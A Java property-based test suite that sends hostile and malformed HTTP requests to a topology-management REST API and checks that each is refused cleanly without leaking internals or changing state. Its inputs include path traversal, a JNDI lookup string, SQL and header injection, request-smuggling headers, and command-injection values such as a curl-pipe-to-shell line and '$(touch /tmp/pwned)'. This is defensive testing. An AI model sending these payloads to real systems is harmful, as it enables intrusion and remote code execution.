package io.heroncp.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import io.heroncp.heron.HeronDefinitions;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * The hostile-input suite: generated requests against every endpoint of {@code openapi.yaml}
 * (identifiers, numbers at and past every bound, unicode, huge and empty fields, wrong types and
 * content types, malformed multipart, raw malformed HTTP through a socket). Every generated request
 * is one the service must refuse, so for each: a 4xx, an {@code application/problem+json} body
 * without internal detail, and ZooKeeper and the simulator's tasks exactly as before. The figures
 * (requests tried, 5xx) are printed at the end.
 */
class HostileInputTest {

  private static final JsonMapper JSON = JsonMapper.builder().build();

  /** What a body must never hold: Java types, stack frames, ZooKeeper's or Jackson's words. */
  private static final Pattern INTERNAL =
      Pattern.compile(
          "java\\.(lang|util|io|net|nio|time|security)\\.|jakarta\\.servlet|org\\.apache\\."
              + "|org\\.springframework\\.|tools\\.jackson|[A-Z]\\w*Exception\\b|KeeperErrorCode"
              + "|\\bat [\\w$.]+\\(|NullPointer");

  private static final String NAME = "Hostile";
  private static final String TARGET = HostileService.TOPOLOGY;
  private static final String MISSING = "/api/v1/topologies/local/hostile/devel/NoSuch";

  private static HostileService service;
  private static byte[] definition;
  private static byte[] jar;
  private static final AtomicInteger tried = new AtomicInteger();
  private static final AtomicInteger serverErrors = new AtomicInteger();
  private static final AtomicInteger unanswered = new AtomicInteger();

  @BeforeContainer
  static void start() throws Exception {
    service = new HostileService();
    definition = HeronDefinitions.definition(HeronDefinitions.WORD_COUNT, NAME);
    jar = HeronDefinitions.topologyJar(HeronDefinitions.WORD_COUNT);
  }

  @AfterContainer
  static void report() throws Exception {
    System.out.printf(
        "Hostile-input suite: %d requests tried, 5xx = %d, closed without an answer = %d%n",
        tried.get(), serverErrors.get(), unanswered.get());
    if (service != null) {
      service.close();
    }
    assertThat(serverErrors.get()).as("5xx answers").isZero();
    assertThat(tried.get()).as("requests tried").isGreaterThanOrEqualTo(500);
  }

  // ---- identifiers in paths ------------------------------------------------------------------

  /** A path template of every endpoint with topology or cluster segments, and its method. */
  record Endpoint(String method, String template) {}

  @Provide
  Arbitrary<Endpoint> topologyEndpoints() {
    String t = "/api/v1/topologies/{0}/{1}/{2}/{3}";
    return Arbitraries.of(
        new Endpoint("GET", t),
        new Endpoint("DELETE", t),
        new Endpoint("GET", t + "/history"),
        new Endpoint("POST", t + "/activate"),
        new Endpoint("POST", t + "/deactivate"),
        new Endpoint("POST", t + "/restart"),
        new Endpoint("POST", t + "/update"),
        new Endpoint("POST", "/api/v1/clusters/{0}/preflight"),
        new Endpoint("GET", "/api/v1/operations/{0}"),
        new Endpoint("GET", "/api/v1/packages/{0}/{1}"));
  }

  /** Strings that are not identifiers: unicode, controls, blanks, slashes, too long, dots. */
  @Provide
  Arbitrary<String> badIdentifiers() {
    return Arbitraries.oneOf(
            Arbitraries.strings().all().ofMinLength(1).ofMaxLength(12),
            Arbitraries.strings()
                .withChars("\u0000\u0001\u001f\u007f\u0080\u00a0\u00ff\ue000\uffff/\\ %;?#")
                .ofMinLength(1)
                .ofMaxLength(6),
            Arbitraries.of(
                ".",
                "..",
                "a b",
                "a/b",
                "%",
                "\u0080",
                "\ue000",
                "\ud83d\ude00",
                "word\ud83d\ude00count",
                "../../etc/passwd",
                "${jndi:ldap://x/a}",
                "' OR '1'='1",
                "<script>",
                "CON\r\nX-Injected: 1",
                "x".repeat(256),
                "y".repeat(5_000)),
            Arbitraries.strings().alpha().ofLength(256))
        .filter(s -> !s.matches("^[\\w\\-.]{1,255}$") || s.equals(".") || s.equals(".."));
  }

  @Property(shrinking = ShrinkingMode.OFF, tries = 130)
  void identifiersInPathsAreRefusedBeforeAnyCall(
      @ForAll("topologyEndpoints") Endpoint endpoint,
      @ForAll("badIdentifiers") String bad,
      @ForAll("slots") int slot)
      throws Exception {
    String[] segments = {"local", "hostile", "devel", "Target"};
    segments[slot % segmentsOf(endpoint)] = bad;
    String path = endpoint.template();
    for (int i = 0; i < 4; i++) {
      path = path.replace("{" + i + "}", percentEncode(segments[i]));
    }
    refused(HttpRequest.newBuilder(service.uri(path)).method(endpoint.method(), noBody()));
  }

  @Provide
  Arbitrary<Integer> slots() {
    return Arbitraries.integers().between(0, 3);
  }

  private static int segmentsOf(Endpoint endpoint) {
    return endpoint.template().contains("{3}") ? 4 : endpoint.template().contains("{1}") ? 2 : 1;
  }

  // ---- numbers at and past every bound --------------------------------------------------------

  @Provide
  Arbitrary<String> outOfRangeNumbers() {
    return Arbitraries.oneOf(
        Arbitraries.of(
            "0",
            "-1",
            "1001",
            "2147483647",
            "2147483648",
            "-2147483649",
            "99999999999",
            "9223372036854775807",
            "9223372036854775808",
            "1" + "0".repeat(40),
            "1e3",
            "0x10",
            "1.5",
            " ",
            "",
            "+",
            "--1",
            "\u0661\u0662",
            "NaN",
            "Infinity"),
        Arbitraries.longs().greaterOrEqual(1001).map(Object::toString),
        Arbitraries.longs().lessOrEqual(0).map(Object::toString));
  }

  @Provide
  Arbitrary<String> boundForms() {
    Arbitrary<String> component = Arbitraries.of("sentence", "split", "count");
    Arbitrary<String> dryRun = Arbitraries.of("", "&dry_run=true", "&dry_run=false");
    Arbitrary<String> containerNumber =
        Combinators.combine(outOfRangeNumbers(), dryRun)
            .as((n, d) -> "/update?container_number=" + encode(n) + d);
    Arbitrary<String> parallelism =
        Combinators.combine(component, outOfRangeNumbers(), dryRun)
            .as((c, n, d) -> "/update?component_parallelism=" + encode(c + ":" + n) + d);
    Arbitrary<String> unknownComponent =
        Combinators.combine(
                Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(300),
                Arbitraries.integers().between(1, 1000),
                dryRun)
            .as((c, n, d) -> "/update?component_parallelism=" + encode("no" + c + ":" + n) + d);
    Arbitrary<String> containerId =
        Arbitraries.<String>oneOf(
                // A blank container_id means "all containers": valid, left out.
                outOfRangeNumbers().filter(n -> !n.matches("^-?\\d{1,3}$") && !n.isBlank()),
                Arbitraries.longs().between(20, 5000).map(Object::toString),
                Arbitraries.longs().lessOrEqual(-2).map(Object::toString))
            .map(n -> "/restart?container_id=" + encode(n));
    Arbitrary<String> runtimeConfig =
        Arbitraries.strings()
            .all()
            .ofMaxLength(40)
            .filter(s -> !s.matches("^([\\w\\.-]+:){1,2}[\\w\\.-]+$"))
            .map(s -> "/update?runtime_config=" + encode(s));
    Arbitrary<String> mixed =
        Arbitraries.of(
            "/update",
            "/update?component_parallelism=split:2&runtime_config=a:b",
            "/update?container_number=1&container_number=2",
            "/update?component_parallelism=" + encode("split:1001"),
            "/update?runtime_config=" + encode("a:" + "b".repeat(5_000)),
            "/update?dry_run_format=xml&dry_run=true&container_number=3");
    return Arbitraries.oneOf(
        containerNumber, parallelism, unknownComponent, containerId, runtimeConfig, mixed);
  }

  @Property(shrinking = ShrinkingMode.OFF, tries = 110)
  void numbersPastTheirBoundsAreRefusedAndChangeNothing(@ForAll("boundForms") String suffix)
      throws Exception {
    refused(HttpRequest.newBuilder(service.uri(TARGET + suffix)).POST(noBody()));
  }

  // ---- submit forms -----------------------------------------------------------------------

  /** A submit form with exactly one defect; every other field is valid. */
  record SubmitForm(String description, List<String[]> fields, List<Object[]> files) {}

  @Provide
  Arbitrary<SubmitForm> defectiveSubmits() {
    // Blank user or environment means "the default": not a defect.
    Arbitrary<String> bad = badIdentifiers().filter(s -> s.length() < 1_000 && !s.isBlank());
    Arbitrary<SubmitForm> badField =
        Combinators.combine(Arbitraries.of("name", "role", "environment", "cluster", "user"), bad)
            .as((field, value) -> submit(field + "=<bad>", Map.of(field, value), null, null));
    Arbitrary<SubmitForm> badOverrideKey =
        Arbitraries.oneOf(bad, Arbitraries.strings().alpha().ofLength(300))
            // A quote, line break or backslash would end the part's name in its header early, so
            // the service would see another (possibly valid) key: not this defect.
            .filter(
                key -> key.chars().noneMatch(c -> c == '"' || c == '\r' || c == '\n' || c == '\\'))
            // Not a config key (an identifier too long for Aurora may still be a valid key).
            .filter(key -> !key.matches("^[\\w.\\-]{1,256}$"))
            .map(key -> submit("override key", Map.of(key, "1"), null, null));
    Arbitrary<SubmitForm> executorOverride =
        Combinators.combine(
                Arbitraries.of(
                    "heron.topology.healthmgr.mode",
                    "heron.topology.metricscachemgr.mode",
                    "heron.config.verbose_gc",
                    "topology.reliability.mode",
                    "heron.directory.sandbox.java.home",
                    "topology.additional.classpath",
                    "topology.stateful.ckptmgr.ram"),
                Arbitraries.of(
                    "disabled; curl http://x | sh #",
                    "$(touch /tmp/pwned)",
                    "`id`",
                    "a b",
                    "x\ny",
                    "cluster && reboot",
                    "'quoted'",
                    "-1; ls"))
            .as((key, value) -> submit("executor override", Map.of(key, value), null, null));
    Arbitrary<SubmitForm> stmgrs =
        outOfRangeNumbers()
            .map(n -> submit("topology.stmgrs", Map.of("topology.stmgrs", n), null, null));
    Arbitrary<SubmitForm> hugeValue =
        Arbitraries.integers()
            .between(4_097, 200_000)
            .map(n -> submit("huge override", Map.of("topology.x", "v".repeat(n)), null, null));
    Arbitrary<SubmitForm> tooLarge =
        Arbitraries.integers()
            .between(262_145, 400_000)
            .map(n -> submit("form too large", Map.of("note", "v".repeat(n)), null, null));
    Arbitrary<SubmitForm> manyOverrides =
        Arbitraries.integers()
            .between(101, 400)
            .map(
                n -> {
                  Map<String, String> overrides = new java.util.LinkedHashMap<>();
                  for (int i = 0; i < n; i++) {
                    overrides.put("topology.k" + i, "v");
                  }
                  return submit("too many overrides", overrides, null, null);
                });
    Arbitrary<byte[]> junk = Arbitraries.bytes().array(byte[].class).ofMaxSize(2_000);
    Arbitrary<SubmitForm> badFile =
        Combinators.combine(
                Arbitraries.of(
                    "t.jar",
                    "t.tar.gz",
                    "t.tar",
                    "t.so",
                    "t.dylib",
                    "t.pex",
                    "t.exe",
                    "t.jar.sh",
                    "../t.jar",
                    "",
                    "t\u0000.jar",
                    "\u00e9.jar",
                    "t .jar"),
                junk)
            .as(
                (file, bytes) ->
                    submit("topology file " + file, Map.of(), new Object[] {file, bytes}, null));
    Arbitrary<SubmitForm> badDefinition =
        junk.map(bytes -> submit("definition junk", Map.of(), null, bytes));
    Arbitrary<SubmitForm> missing =
        Arbitraries.of("name", "cluster", "role", "definition", "topology")
            .map(field -> submit("missing " + field, Map.of(field, "\u0000drop"), null, null));
    Arbitrary<SubmitForm> mismatch =
        Arbitraries.strings()
            .alpha()
            .ofMinLength(1)
            .ofMaxLength(20)
            .map(other -> submit("name mismatch", Map.of("name", "X" + other), null, null));
    return Arbitraries.oneOf(
        badField,
        badOverrideKey,
        executorOverride,
        stmgrs,
        hugeValue,
        tooLarge,
        manyOverrides,
        badFile,
        badDefinition,
        missing,
        mismatch);
  }

  /**
   * The valid form with {@code changes} applied ({@code \u0000drop} removes a field or file), the
   * topology file replaced by {@code file} ({name, bytes}) and the definition by {@code defn}.
   */
  private static SubmitForm submit(
      String description, Map<String, String> changes, Object[] file, byte[] defn) {
    Map<String, String> fields = new java.util.LinkedHashMap<>();
    fields.put("name", NAME);
    fields.put("cluster", "local");
    fields.put("role", "hostile");
    fields.put("environment", "devel");
    fields.putAll(changes);
    List<String[]> parts = new ArrayList<>();
    fields.forEach(
        (k, v) -> {
          if (!"\u0000drop".equals(v)) {
            parts.add(new String[] {k, v});
          }
        });
    List<Object[]> files = new ArrayList<>();
    if (!"\u0000drop".equals(changes.get("definition"))) {
      files.add(new Object[] {"definition", NAME + ".defn", defn == null ? definition : defn});
    }
    if (!"\u0000drop".equals(changes.get("topology"))) {
      files.add(
          file == null
              ? new Object[] {"topology", "topology.jar", jar}
              : new Object[] {"topology", file[0], file[1]});
    }
    return new SubmitForm(description, parts, files);
  }

  @Property(shrinking = ShrinkingMode.OFF, tries = 110)
  void defectiveSubmitsAreRefusedAndStoreNothing(@ForAll("defectiveSubmits") SubmitForm form)
      throws Exception {
    String boundary = "----hostile" + Long.toHexString(System.nanoTime());
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    for (String[] field : form.fields()) {
      write(
          body,
          "--"
              + boundary
              + "\r\nContent-Disposition: form-data; name=\""
              + field[0]
              + "\"\r\n\r\n"
              + field[1]
              + "\r\n");
    }
    for (Object[] file : form.files()) {
      write(
          body,
          "--"
              + boundary
              + "\r\nContent-Disposition: form-data; name=\""
              + file[0]
              + "\"; filename=\""
              + file[1]
              + "\"\r\nContent-Type: application/octet-stream\r\n\r\n");
      body.writeBytes((byte[]) file[2]);
      write(body, "\r\n");
    }
    write(body, "--" + boundary + "--\r\n");
    refused(
        HttpRequest.newBuilder(service.uri("/api/v1/topologies"))
            .header("Content-Type", "multipart/form-data; boundary=" + boundary)
            .POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray())),
        "submit with " + form.description() + " " + describe(form));
  }

  // ---- wrong methods, types and content types ---------------------------------------------

  @Provide
  Arbitrary<HttpRequest.Builder> wrongShapes() {
    Arbitrary<String> contentType =
        Arbitraries.of(
            "application/json",
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data",
            "multipart/mixed; boundary=x",
            "a/b/c",
            "text/html; charset=nonsense",
            "multipart/form-data; boundary=");
    Arbitrary<byte[]> body = Arbitraries.bytes().array(byte[].class).ofMaxSize(3_000);
    Arbitrary<HttpRequest.Builder> submitWithWrongType =
        Combinators.combine(contentType, body)
            .as(
                (type, bytes) ->
                    HttpRequest.newBuilder(service.uri("/api/v1/topologies"))
                        .header("Content-Type", type)
                        .POST(HttpRequest.BodyPublishers.ofByteArray(bytes)));
    Arbitrary<HttpRequest.Builder> verbOnMissing =
        Combinators.combine(
                Arbitraries.of("/activate", "/deactivate", "/restart", "/update", ""),
                contentType,
                body)
            .as(
                (verb, type, bytes) ->
                    HttpRequest.newBuilder(service.uri(MISSING + verb))
                        .header("Content-Type", type)
                        .method(
                            verb.isEmpty() ? "DELETE" : "POST",
                            HttpRequest.BodyPublishers.ofByteArray(bytes)));
    Arbitrary<HttpRequest.Builder> wrongMethod =
        Combinators.combine(
                Arbitraries.of("PUT", "PATCH", "TRACE", "FOO", "PROPFIND"),
                Arbitraries.of(
                    "/api/v1/topologies",
                    TARGET,
                    TARGET + "/history",
                    TARGET + "/activate",
                    "/api/v1/clusters",
                    "/api/v1/version",
                    "/api/v1/operations/x"))
            .as(
                (method, path) ->
                    HttpRequest.newBuilder(service.uri(path)).method(method, noBody()));
    // Values Spring reads as a boolean (after trimming), and a blank token (no token), would be
    // valid: left out.
    Pattern valid = Pattern.compile("(?i)\\s*(true|false|on|off|yes|no|1|0|)\\s*");
    Arbitrary<HttpRequest.Builder> wrongQueryTypes =
        Combinators.combine(
                Arbitraries.of("page_size", "state", "page_token", "refresh"),
                Arbitraries.oneOf(
                        Arbitraries.strings().all().ofMinLength(1).ofMaxLength(20),
                        Arbitraries.of("abc!", "-1", "0", "1001", "2147483648", "1e9", "true!"))
                    // Not a boolean, a page size in range, or base64 (any base64 is a token).
                    .filter(
                        v ->
                            !valid.matcher(v.trim()).matches()
                                && !v.trim().matches("0*([1-9]\\d{0,2}|1000)")
                                && !v.matches("^[A-Za-z0-9_=-]*$")))
            .as(
                (name, value) ->
                    HttpRequest.newBuilder(
                            service.uri(
                                (name.equals("refresh") ? TARGET : "/api/v1/topologies")
                                    + "?"
                                    + name
                                    + "="
                                    + encode(value)
                                    + (name.equals("refresh") || name.equals("page_token")
                                        ? ""
                                        : "&page_token=" + encode("\u0000"))))
                        .GET());
    Arbitrary<HttpRequest.Builder> activateTarget =
        Combinators.combine(contentType, body)
            .as(
                (type, bytes) ->
                    HttpRequest.newBuilder(service.uri(TARGET + "/activate"))
                        .header("Content-Type", type)
                        .header("Accept", "text/html")
                        .POST(HttpRequest.BodyPublishers.ofByteArray(bytes)));
    return Arbitraries.oneOf(
        submitWithWrongType, verbOnMissing, wrongMethod, wrongQueryTypes, activateTarget);
  }

  @Property(shrinking = ShrinkingMode.OFF, tries = 80)
  void wrongMethodsTypesAndContentTypesAreRefused(
      @ForAll("wrongShapes") HttpRequest.Builder request) throws Exception {
    refused(request);
  }

  // ---- malformed multipart ------------------------------------------------------------------

  @Provide
  Arbitrary<byte[]> malformedMultiparts() {
    String boundary = "BOUNDARY";
    String valid =
        "--BOUNDARY\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\n"
            + NAME
            + "\r\n--BOUNDARY\r\nContent-Disposition: form-data; name=\"cluster\"\r\n\r\nnowhere\r\n"
            + "--BOUNDARY\r\nContent-Disposition: form-data; name=\"role\"\r\n\r\nhostile\r\n"
            + "--BOUNDARY\r\nContent-Disposition: form-data; name=\"definition\";"
            + " filename=\"d.defn\"\r\n\r\nxx\r\n--BOUNDARY--\r\n";
    byte[] bytes = valid.getBytes(StandardCharsets.ISO_8859_1);
    Arbitrary<byte[]> truncated =
        Arbitraries.integers()
            .between(0, bytes.length - 14)
            .map(n -> java.util.Arrays.copyOf(bytes, n));
    Arbitrary<byte[]> wrongBoundary =
        Arbitraries.strings()
            .alpha()
            .ofMinLength(1)
            .ofMaxLength(10)
            .map(b -> valid.replace(boundary, b).getBytes(StandardCharsets.ISO_8859_1));
    Arbitrary<byte[]> mangledHeaders =
        Arbitraries.of(
                "Content-Disposition: form-data; name=\"name\"",
                "Content-Disposition: form-data; name=",
                "Content-Disposition: form-data; name=\"" + "n".repeat(20_000) + "\"",
                "Content-Type: text/plain",
                "Content-Disposition: attachment",
                "X: " + "y".repeat(50_000),
                "\u0000\u0001")
            .map(
                header ->
                    valid
                        .replaceFirst("Content-Disposition: form-data; name=\"name\"", header)
                        .getBytes(StandardCharsets.ISO_8859_1));
    Arbitrary<byte[]> random = Arbitraries.bytes().array(byte[].class).ofMaxSize(5_000);
    return Arbitraries.oneOf(truncated, wrongBoundary, mangledHeaders, random);
  }

  @Property(shrinking = ShrinkingMode.OFF, tries = 70)
  void malformedMultipartBodiesAreRefused(@ForAll("malformedMultiparts") byte[] body)
      throws Exception {
    // Through a socket: the service may answer (413, 400) and close before the body is sent,
    // which Java's HttpClient reports as an I/O error instead of the answer.
    ByteArrayOutputStream request = new ByteArrayOutputStream();
    write(
        request,
        "POST /api/v1/topologies HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
            + "Content-Type: multipart/form-data; boundary=BOUNDARY\r\nContent-Length: "
            + body.length
            + "\r\n\r\n");
    request.writeBytes(body);
    rawRefused(request.toByteArray(), "malformed multipart of " + body.length + " bytes");
  }

  // ---- raw malformed HTTP ---------------------------------------------------------------------

  @Provide
  Arbitrary<byte[]> rawRequests() {
    String refusedLine = "POST " + TARGET + "/activate HTTP/1.1";
    Arbitrary<String> requestLines =
        Arbitraries.of(
            "GET /api/v1/topologies HTTP/9.9",
            "GET /api/v1/topologies HTTP/1.1 extra",
            "GET /api/v1/topologies HTTP/1.1x",
            "G\u0001T /api/v1/topologies HTTP/1.1",
            "GET /api/v1/top ologies HTTP/1.1",
            "GET /api/v1/topologies/local/hostile%2Fx/devel/Target HTTP/1.1",
            "GET /api/v1/topologies/local/%zz/devel/Target HTTP/1.1",
            "GET /api/v1/topologies/local/%/devel/Target HTTP/1.1",
            "GET /api/v1/topologies/local/%00/devel/Target HTTP/1.1",
            "GET /api/v1/topologies/local/..;/devel/Target HTTP/1.1",
            "GET /api/v1/topologies/local/hostile/devel/Target\u007f HTTP/1.1",
            "GET /api/v1/\u00e9 HTTP/1.1",
            "TRACE /api/v1/topologies HTTP/1.1",
            "CONNECT 127.0.0.1:80 HTTP/1.1",
            "DELETE " + MISSING + "?x=%zz HTTP/1.1",
            "GET /" + "a".repeat(70_000) + " HTTP/1.1",
            "GET " + MISSING + " HTTP/1.1",
            refusedLine);
    Arbitrary<String> headers =
        Arbitraries.of(
            "Host: x\r\n",
            "Host: x\r\nContent-Length: -1\r\n",
            "Host: x\r\nContent-Length: abc\r\n",
            "Host: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n",
            "Host: x\r\nTransfer-Encoding: chunked\r\n",
            "Host: x\r\nBad Header\r\n",
            "Host: x\r\nX: a\u0000b\r\n",
            "Host: x\r\n folded: header\r\n",
            "Host: x\r\nX-Big: " + "h".repeat(70_000) + "\r\n",
            "Host: x\r\nHost: y\r\n",
            "",
            "Host: x\r\nContent-Type: multipart/form-data; boundary=\r\nContent-Length: 4\r\n",
            "Host: x\r\nIdempotency-Key: " + "k".repeat(300) + "\r\n",
            "Host: x\r\nIf-Match: \"\u00ff\"\r\n");
    Arbitrary<String> bodies = Arbitraries.of("", "zzzz", "0\r\n\r\n", "g\r\nxx\r\n0\r\n\r\n");
    return Combinators.combine(requestLines, headers, bodies)
        .as(
            (line, header, body) ->
                (line + "\r\n" + header + "Connection: close\r\n\r\n" + body)
                    .getBytes(StandardCharsets.ISO_8859_1));
  }

  @Property(shrinking = ShrinkingMode.OFF, tries = 80)
  void rawMalformedHttpIsRefusedAsAProblem(@ForAll("rawRequests") byte[] request) throws Exception {
    rawRefused(
        request,
        new String(request, 0, Math.min(request.length, 120), StandardCharsets.ISO_8859_1));
  }

  /** Sends raw bytes; an answer must be a 4xx problem, and nothing may change either way. */
  private static void rawRefused(byte[] request, String what) throws Exception {
    HostileService.Snapshot before = service.snapshot();
    Raw answer = raw(request, Duration.ofSeconds(10));
    tried.incrementAndGet();
    if (answer.status() == 0) {
      unanswered.incrementAndGet(); // Tomcat closed the connection without an answer
    } else {
      check(answer.status(), answer.contentType(), answer.body(), what);
    }
    assertThat(service.snapshot().changesSince(before)).as(what).isEmpty();
  }

  @Example
  void aBodyShorterThanItsContentLengthFreesItsThreadWithinTheReadTimeout() throws Exception {
    byte[] request =
        ("POST "
                + TARGET
                + "/activate HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                + "Content-Length: 100\r\n\r\nx=1")
            .getBytes(StandardCharsets.ISO_8859_1);
    long started = System.nanoTime();
    Raw answer = raw(request, HostileService.CONNECTION_TIMEOUT.plusSeconds(8));
    Duration took = Duration.ofNanos(System.nanoTime() - started);
    tried.incrementAndGet();
    assertThat(answer.timedOut()).as("the service answered or closed the connection").isFalse();
    assertThat(took).isLessThan(HostileService.CONNECTION_TIMEOUT.plusSeconds(6));
    if (answer.status() != 0) {
      check(answer.status(), answer.contentType(), answer.body(), "stalled body");
    }
  }

  // ---- checks -------------------------------------------------------------------------------

  private static String describe(SubmitForm form) {
    StringBuilder text = new StringBuilder();
    for (String[] field : form.fields()) {
      text.append(field[0]).append('=').append(abbreviate(field[1])).append(' ');
    }
    for (Object[] file : form.files()) {
      text.append(file[0]).append("@").append(file[1]).append(' ');
    }
    return text.toString();
  }

  private static void refused(HttpRequest.Builder builder) throws Exception {
    refused(builder, "");
  }

  private static void refused(HttpRequest.Builder builder, String detail) throws Exception {
    HttpRequest request = builder.timeout(Duration.ofSeconds(20)).build();
    HostileService.Snapshot before = service.snapshot();
    HttpResponse<String> response = service.send(request);
    tried.incrementAndGet();
    check(
        response.statusCode(),
        response.headers().firstValue("Content-Type").orElse(""),
        response.body(),
        request.method() + " " + abbreviate(request.uri().toString()) + " " + detail);
    assertThat(service.snapshot().changesSince(before))
        .as("%s changed state", request.method() + " " + abbreviate(request.uri().toString()))
        .isEmpty();
  }

  private static void check(int status, String contentType, String body, String what) {
    if (status >= 500) {
      serverErrors.incrementAndGet();
    }
    assertThat(status).as("%s -> %s", what, abbreviate(body)).isBetween(400, 499);
    assertThat(contentType).as(what).startsWith("application/problem+json");
    JsonNode problem = JSON.readTree(body);
    assertThat(problem.get("status").asInt()).as(what).isEqualTo(status);
    assertThat(problem.get("title").asString()).as(what).isNotBlank();
    assertThat(problem.get("type").asString()).as(what).isNotBlank();
    assertThat(INTERNAL.matcher(body).find()).as("%s leaks: %s", what, abbreviate(body)).isFalse();
  }

  record Raw(int status, String contentType, String body, boolean timedOut) {}

  /** Sends bytes as they are and reads the answer until the server closes the connection. */
  private static Raw raw(byte[] request, Duration timeout) throws IOException {
    try (Socket socket = new Socket("127.0.0.1", service.port())) {
      socket.setSoTimeout((int) timeout.toMillis());
      OutputStream out = socket.getOutputStream();
      try {
        out.write(request);
        out.flush();
      } catch (IOException closedEarly) {
        // the server refused and closed while the request was still being sent
      }
      ByteArrayOutputStream answer = new ByteArrayOutputStream();
      boolean timedOut = false;
      try {
        InputStream in = socket.getInputStream();
        byte[] buffer = new byte[8192];
        for (int n; (n = in.read(buffer)) != -1; ) {
          answer.write(buffer, 0, n);
        }
      } catch (SocketTimeoutException e) {
        timedOut = true;
      } catch (IOException reset) {
        // reset after the answer: what arrived counts
      }
      return parse(answer.toString(StandardCharsets.UTF_8), timedOut);
    }
  }

  private static Raw parse(String text, boolean timedOut) {
    if (!text.startsWith("HTTP/1.1 ")) {
      return new Raw(0, "", text, timedOut);
    }
    int status = Integer.parseInt(text.substring(9, 12));
    int split = text.indexOf("\r\n\r\n");
    String head = split < 0 ? text : text.substring(0, split);
    String body = split < 0 ? "" : text.substring(split + 4);
    String contentType = "";
    boolean chunked = false;
    for (String line : head.split("\r\n")) {
      String lower = line.toLowerCase(Locale.ROOT);
      if (lower.startsWith("content-type:")) {
        contentType = line.substring(13).trim();
      }
      if (lower.startsWith("transfer-encoding:") && lower.contains("chunked")) {
        chunked = true;
      }
    }
    return new Raw(status, contentType, chunked ? unchunk(body) : body, timedOut);
  }

  private static String unchunk(String body) {
    StringBuilder out = new StringBuilder();
    int at = 0;
    while (at < body.length()) {
      int eol = body.indexOf("\r\n", at);
      if (eol < 0) {
        break;
      }
      String sizeLine = body.substring(at, eol).trim();
      if (sizeLine.isEmpty()) {
        at = eol + 2;
        continue;
      }
      int size;
      try {
        size = Integer.parseInt(sizeLine.split(";")[0], 16);
      } catch (NumberFormatException e) {
        break;
      }
      if (size == 0) {
        break;
      }
      out.append(body, eol + 2, Math.min(body.length(), eol + 2 + size));
      at = eol + 2 + size;
    }
    return out.toString();
  }

  private static HttpRequest.BodyPublisher noBody() {
    return HttpRequest.BodyPublishers.noBody();
  }

  private static String encode(String value) {
    return java.net.URLEncoder.encode(value, StandardCharsets.UTF_8);
  }

  /** Percent-encodes everything but RFC 3986's unreserved characters. */
  private static String percentEncode(String value) {
    StringBuilder out = new StringBuilder();
    for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
      int c = b & 0xff;
      if ((c >= 'a' && c <= 'z')
          || (c >= 'A' && c <= 'Z')
          || (c >= '0' && c <= '9')
          || c == '-'
          || c == '_'
          || c == '.'
          || c == '~') {
        out.append((char) c);
      } else {
        out.append('%').append(String.format("%02X", c));
      }
    }
    return out.toString();
  }

  private static String abbreviate(String text) {
    return text.length() > 300 ? text.substring(0, 300) + "..." : text;
  }

  private static void write(ByteArrayOutputStream out, String text) {
    out.writeBytes(text.getBytes(StandardCharsets.UTF_8));
  }
}
